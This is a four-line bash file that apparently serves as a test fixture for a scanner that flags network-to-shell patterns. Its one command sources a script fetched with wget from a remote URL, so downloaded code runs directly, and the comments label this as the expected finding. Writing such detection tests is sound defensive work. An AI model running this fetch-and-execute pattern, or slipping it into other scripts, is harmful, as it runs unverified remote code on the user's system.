#!/bin/bash
# shows: process substitution for source
# expect: network-to-shell at line 4
source <(wget -O - https://get.example.com/functions.sh)
